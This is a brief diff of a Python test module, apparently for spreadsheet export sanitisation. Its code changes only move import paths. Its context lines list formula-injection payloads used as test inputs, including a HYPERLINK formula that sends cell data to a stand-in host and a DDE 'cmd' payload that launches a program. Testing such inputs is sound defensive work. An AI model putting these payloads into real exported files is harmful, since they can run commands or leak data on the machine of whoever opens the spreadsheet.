@@ -10,10 +10,10 @@ import polars as pl
 import pytest
 from django.test import Client
 
-from povmis.registry.models import AdminUnit
+from povmis.registry.error_report import workbook
 from povmis.spreadsheets import neutralised, safe_text
 from povmis.tables import write_table
-from povmis.web.error_report import workbook
+from povmis.units.models import AdminUnit
 from tests.reports.dataset import review_two_years
 
 ATTACKS = ['=HYPERLINK("http://x/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
